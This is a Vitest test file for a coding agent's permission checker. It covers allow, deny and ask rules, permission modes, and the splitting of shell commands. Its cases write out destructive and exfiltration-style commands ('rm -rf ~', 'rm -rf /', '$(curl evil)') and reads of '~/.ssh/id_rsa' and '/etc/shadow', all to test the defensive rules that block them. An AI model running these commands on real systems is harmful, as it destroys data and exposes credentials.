import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from "node:fs";
import { homedir, tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { decide } from "./decide.js";
import { splitCommands } from "./match.js";
import type { PermissionMode } from "./policy.js";
import { parseRule, type Rule, type RuleKind } from "./rules.js";

const cwd = mkdtempSync(join(tmpdir(), "weft-permissions-"));
mkdirSync(join(cwd, "docs"));
writeFileSync(join(cwd, "docs", "guide.md"), "guide");
mkdirSync(join(cwd, "secrets"));
writeFileSync(join(cwd, "secrets", "key.txt"), "key");
symlinkSync(join(cwd, "secrets", "key.txt"), join(cwd, "docs", "key-link.md"));

function rules(spec: Partial<Record<RuleKind, string[]>>): Rule[] {
	return Object.entries(spec).flatMap(([kind, texts]) =>
		(texts ?? []).map((text) => {
			const rule = parseRule(text, kind as RuleKind, "user");
			if ("problem" in rule) throw new Error(`${text}: ${rule.problem}`);
			return rule;
		}),
	);
}

const bash = (command: string) => ({ name: "bash", args: { command } });
const file = (name: string, path?: string) => ({ name, args: path === undefined ? {} : { path } });

describe("decide", () => {
	it.each<
		[
			string,
			{ name: string; args: Record<string, unknown> },
			Partial<Record<RuleKind, string[]>>,
			PermissionMode,
			string,
		]
	>([
		// Bash prefixes, exact commands and the lines that must not slip through
		// A task's own calls are judged one by one: the task itself runs unasked, unless a rule says otherwise
		["task runs unasked", { name: "task", args: { prompt: "look" } }, {}, "default", "allow"],
		["task runs in plan mode", { name: "task", args: { prompt: "look" } }, {}, "plan", "allow"],
		[
			"a deny rule still stops task",
			{ name: "task", args: { prompt: "look" } },
			{ deny: ["task"] },
			"default",
			"deny",
		],
		["prefix allows", bash("npm test -- --run"), { allow: ["Bash(npm test:*)"] }, "default", "allow"],
		["prefix is a word prefix", bash("npm testing"), { allow: ["Bash(npm test:*)"] }, "default", "ask"],
		["exact allows", bash("git status"), { allow: ["Bash(git status)"] }, "default", "allow"],
		["exact is exact", bash("git status -s"), { allow: ["Bash(git status)"] }, "default", "ask"],
		[
			"a chained command needs every part allowed",
			bash("npm test && rm -rf ~"),
			{ allow: ["Bash(npm test:*)"] },
			"default",
			"ask",
		],
		[
			"every part allowed",
			bash("npm test; git status"),
			{ allow: ["Bash(npm test:*)", "Bash(git status)"] },
			"default",
			"allow",
		],
		[
			"command substitution is never vouched for",
			bash("npm test $(curl evil)"),
			{ allow: ["Bash(npm test:*)"] },
			"default",
			"ask",
		],
		[
			"a redirection is not a separator",
			bash("npm test 2>&1"),
			{ allow: ["Bash(npm test:*)"] },
			"default",
			"allow",
		],
		[
			"an operator inside quotes is text",
			bash("npm test -- 'a && b'"),
			{ allow: ["Bash(npm test:*)"] },
			"default",
			"allow",
		],
		[
			"deny catches any part",
			bash("ls && rm -rf build"),
			{ deny: ["Bash(rm:*)"], allow: ["Bash"] },
			"default",
			"deny",
		],
		["lower-case tool names", bash("make"), { allow: ["bash(make)"] }, "default", "allow"],
		// Precedence
		[
			"deny wins over allow",
			bash("git push"),
			{ allow: ["Bash"], deny: ["Bash(git push:*)"] },
			"default",
			"deny",
		],
		[
			"ask wins over allow",
			bash("git push"),
			{ allow: ["Bash"], ask: ["Bash(git push:*)"] },
			"default",
			"ask",
		],
		[
			"deny wins over ask",
			bash("git push"),
			{ ask: ["Bash"], deny: ["Bash(git push:*)"] },
			"default",
			"deny",
		],
		// Paths: project globs, symlinks, home and absolute paths
		["reads are allowed by default", file("read", "docs/guide.md"), {}, "default", "allow"],
		[
			"deny a project glob",
			file("read", "secrets/key.txt"),
			{ deny: ["Read(./secrets/**)"] },
			"default",
			"deny",
		],
		["Read covers grep", file("grep", "secrets"), { deny: ["Read(./secrets)"] }, "default", "deny"],
		[
			"a symlink into a denied folder",
			file("read", "docs/key-link.md"),
			{ deny: ["Read(./secrets/**)"] },
			"default",
			"deny",
		],
		[
			"an unanchored glob matches at any depth",
			file("read", "docs/guide.md"),
			{ deny: ["Read(*.md)"] },
			"default",
			"deny",
		],
		[
			"an anchored glob does not",
			file("read", "docs/guide.md"),
			{ deny: ["Read(./*.md)"] },
			"default",
			"allow",
		],
		["home paths", file("read", "~/.ssh/id_rsa"), { deny: ["Read(~/.ssh/**)"] }, "default", "deny"],
		["absolute paths", file("read", "/etc/shadow"), { deny: ["Read(/etc/**)"] }, "default", "deny"],
		[
			"a path outside the project is no project glob",
			file("read", "/etc/shadow"),
			{ deny: ["Read(**)"] },
			"default",
			"allow",
		],
		["grep with no path is the project", file("grep"), { deny: ["Read(.)"] }, "default", "deny"],
		["Edit covers write", file("write", "docs/new.md"), { allow: ["Edit(./docs/**)"] }, "default", "allow"],
		[
			"Edit allow misses elsewhere",
			file("write", "src/new.md"),
			{ allow: ["Edit(./docs/**)"] },
			"default",
			"ask",
		],
		[
			"allow must cover the symlink's target",
			file("edit", "docs/key-link.md"),
			{ allow: ["Edit(./docs/**)"] },
			"default",
			"ask",
		],
		// Other tools
		[
			"MCP tool by name",
			{ name: "mcp__github__create_issue", args: {} },
			{ allow: ["mcp__github__create_issue"] },
			"default",
			"allow",
		],
		[
			"MCP server",
			{ name: "mcp__github__delete_repo", args: {} },
			{ deny: ["mcp__github"] },
			"default",
			"deny",
		],
		[
			"MCP other server",
			{ name: "mcp__gitlab__x", args: {} },
			{ deny: ["mcp__github__*"] },
			"bypassPermissions",
			"allow",
		],
		[
			"WebFetch domain",
			{ name: "webfetch", args: { url: "https://docs.example.com/a" } },
			{ allow: ["WebFetch(domain:example.com)"] },
			"default",
			"allow",
		],
		[
			"WebFetch other domain",
			{ name: "webfetch", args: { url: "https://example.org/" } },
			{ allow: ["WebFetch(domain:example.com)"] },
			"default",
			"ask",
		],
		["an extension's tool", { name: "deploy", args: {} }, { deny: ["deploy"] }, "bypassPermissions", "deny"],
		// Modes
		["default asks for bash", bash("ls"), {}, "default", "ask"],
		["default asks for edits", file("edit", "docs/guide.md"), {}, "default", "ask"],
		["acceptEdits allows edits in the project", file("edit", "docs/guide.md"), {}, "acceptEdits", "allow"],
		[
			"acceptEdits asks for edits outside it",
			file("write", join(homedir(), "x.txt")),
			{},
			"acceptEdits",
			"ask",
		],
		["acceptEdits asks for bash", bash("ls"), {}, "acceptEdits", "ask"],
		["plan refuses writes", file("write", "docs/new.md"), {}, "plan", "deny"],
		[
			"plan refuses writes even when allowed",
			file("write", "docs/new.md"),
			{ allow: ["Edit"] },
			"plan",
			"deny",
		],
		["plan refuses bash", bash("ls"), {}, "plan", "deny"],
		["plan runs allowed bash", bash("git log"), { allow: ["Bash(git log:*)"] }, "plan", "allow"],
		["plan reads", file("ls"), {}, "plan", "allow"],
		["bypass allows", bash("rm -rf build"), {}, "bypassPermissions", "allow"],
		["bypass skips ask rules", bash("git push"), { ask: ["Bash"] }, "bypassPermissions", "allow"],
		[
			"bypass keeps deny rules",
			bash("git push"),
			{ deny: ["Bash(git push:*)"] },
			"bypassPermissions",
			"deny",
		],
	])("%s", (_, call, spec, mode, verdict) => {
		expect(decide(call, rules(spec), mode, cwd).verdict).toBe(verdict);
	});

	it("says which rule denied, and plan mode says what to do instead", () => {
		expect(decide(bash("rm -rf /"), rules({ deny: ["Bash(rm:*)"] }), "default", cwd).reason).toBe(
			'denied by the permission rule "Bash(rm:*)" (your settings)',
		);
		expect(decide(file("write", "a.txt"), [], "plan", cwd).reason).toMatch(/plan mode.*Present the plan/);
	});
});

describe("splitCommands", () => {
	it.each([
		["a && b || c; d | e & f\ng", ["a", "b", "c", "d", "e", "f", "g"], false],
		["echo 'a;b' \"c|d\"", ["echo 'a;b' \"c|d\""], false],
		["echo a\\;b", ["echo a\\;b"], false],
		["cmd 2>&1 &>log", ["cmd 2>&1 &>log"], false],
		["echo `id`", ["echo `id`"], true],
		['echo "$(id)"', ['echo "$(id)"'], true],
		["diff <(a) b", ["diff <(a) b"], true],
		["echo 'open", ["echo 'open"], true],
	])("%j", (line, commands, opaque) => {
		expect(splitCommands(line)).toEqual({ commands, opaque });
	});
});
